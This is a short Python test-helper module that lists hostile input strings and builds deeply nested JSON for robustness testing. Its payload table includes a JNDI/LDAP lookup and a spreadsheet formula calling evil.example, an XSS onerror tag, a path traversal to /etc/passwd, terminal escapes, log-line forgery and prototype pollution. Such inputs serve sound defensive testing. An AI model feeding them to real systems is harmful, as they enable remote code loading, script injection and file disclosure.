"""Texts that do harm where somebody takes them for more than text."""

from __future__ import annotations

import copy
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

TEXTS = {
    "terminal escape": "\x1b[2J\x1b]0;pwned\x07",
    "one-character escape": "\x9b2J",
    "line break": 'harmless\r\n{"level":"ERROR","message":"forged"}',
    "nul": "a\x00b",
    "order turned round": "\u202egnp.exe\u2066",
    "format string": "%s%n{0}{self.__class__}${jndi:ldap://evil.example/a}",
    "JSON path": "$..*[?(@.userId)]['constructor']",
    "spreadsheet formula": '=HYPERLINK("http://evil.example")',
    "markup": "<img src=x onerror=alert(1)>",
    "expression": "#a = :b) OR attribute_exists(userId",
    "file name": "../../../../etc/passwd",
    "half a character": "\ud800",
    "very long": "x" * 100_000,
    "prototype": "__proto__",
}

NUMBERS = {"huge": 10**5000, "infinite": float("inf"), "not a number": float("nan")}
DEEP = 3_000


def nested(depth: int = DEEP) -> dict[str, Any]:
    """Return objects within one another: more than Python's own recursion can visit."""
    made: dict[str, Any] = {}
    for _ in range(depth):
        made = {"a": made}
    return made


def listed(depth: int = DEEP) -> list[Any]:
    """Return lists within one another."""
    made: list[Any] = []
    for _ in range(depth):
        made = [made]
    return made


def places(document: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the place of every value in some JSON."""
    yield at
    if isinstance(document, dict):
        for key, value in document.items():
            yield from places(value, (*at, key))
    elif isinstance(document, list):
        for index, value in enumerate(document):
            yield from places(value, (*at, index))


def put(document: Any, at: tuple[Any, ...], value: Any) -> Any:
    """Return the document with another value at a place."""
    if not at:
        return value
    made = copy.deepcopy(document)
    holder = made
    for step in at[:-1]:
        holder = holder[step]
    holder[at[-1]] = value
    return made
